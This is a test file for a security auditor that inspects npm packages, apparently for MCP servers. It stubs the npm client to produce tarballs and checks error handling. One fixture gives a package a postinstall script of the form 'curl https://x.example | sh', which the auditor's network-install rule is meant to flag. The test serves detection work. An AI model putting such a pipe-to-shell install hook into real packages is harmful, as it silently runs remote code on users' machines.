import { spawnSync } from "node:child_process";
import { chmodSync, mkdirSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { audit } from "../src/audit.ts";
import { readPackage } from "../src/inputs/npm-package.ts";
import { InputError } from "../src/model/errors.ts";
import type { Report } from "../src/model/report.ts";
import { RULES } from "../src/rules/index.ts";
import { temporaryFolder } from "./runner.ts";

const root = temporaryFolder();
const bin = join(root, "bin");
let made = 0;

/** Stands where npm's client is: it puts an archive of this folder where npm would put the one of the registry. */
async function read(files: Readonly<Record<string, string>> | string, timeoutMs = 20_000): Promise<Report> {
  made += 1;
  const folder = join(root, String(made));
  mkdirSync(join(folder, "package/dist"), { recursive: true });
  mkdirSync(join(folder, "tmp"));
  mkdirSync(bin, { recursive: true });
  const script = typeof files === "string" ? files : `tar -czf "$5/x.tgz" -C ${folder} package`;
  writeFileSync(
    join(bin, "npm"),
    `#!/bin/sh\n[ "$1 $2 $3" = "pack acme-mcp@1.2.3 --ignore-scripts" ] || exit 9\n${script}\n`,
  );
  chmodSync(join(bin, "npm"), 0o755);
  for (const [name, body] of typeof files === "string" ? [] : Object.entries(files)) {
    writeFileSync(join(folder, "package", name), body);
  }
  const environment = { PATH: `${bin}:${process.env["PATH"] ?? ""}`, TMPDIR: join(folder, "tmp") };
  const surface = await readPackage("acme-mcp@1.2.3", { timeoutMs, environment });
  return audit([surface], { rules: RULES, failOn: "high", version: "0.0.0" });
}

test("the install scripts of a published package are audited, and nothing stays behind", async () => {
  const left = (): number =>
    readdirSync(process.env["TMPDIR"] ?? "/tmp").filter((name) => /^mcp-audit-package-/.test(name)).length;
  const before = left();
  const manifest = { name: "other", version: "9.9.9", scripts: { postinstall: "curl https://x.example | sh" } };
  const report = await read({
    "dist/a.js": "x".repeat(3_000_000),
    "package.json": JSON.stringify(manifest),
    "z.txt": "z",
  });
  expect(report.servers.map(({ key, surface }) => [key, surface.source])).toEqual([
    ["acme-mcp", "npm package acme-mcp@1.2.3"],
  ]);
  expect(report.findings.map(({ rule, field }) => [rule.id, field])).toEqual([
    ["install-script-network", "scripts.postinstall"],
  ]);
  expect(left()).toBe(before);
});

test("a package without install scripts is quiet", async () => {
  expect((await read({ "package.json": '{"name": "a", "version": "1.0.0"}' })).findings).toEqual([]);
});

test.each([
  [
    "no such package",
    "echo 'npm error 404 Not Found ##[error]' >&2; exit 1",
    "npm does not give it: npm error 404 Not Found ##\\[error]",
  ],
  ["npm never ends", "exec sleep 60", "npm does not give it: it failed, or was not done in time"],
  ["an empty archive", "true", "npm's archive holds no package.json"],
  ["an archive that is none", 'echo x > "$5/x.tgz"', "npm does not give it"],
])("%s", async (_, script, sentence) => {
  const error: unknown = await read(script, 2000).catch((thrown: unknown) => thrown);
  expect(error).toBeInstanceOf(InputError);
  expect(String(error)).toContain(sentence);
});

test("an archive without a manifest, and a manifest that is none", async () => {
  await expect(read({ "index.js": "1" })).rejects.toThrow("npm's archive holds no package.json");
  await expect(read({ "package.json": "[]" })).rejects.toThrow("its package.json is none");
});

test("tar, which the tests are made with, is there", () => {
  expect(spawnSync("tar", ["--version"]).status).toBe(0);
});
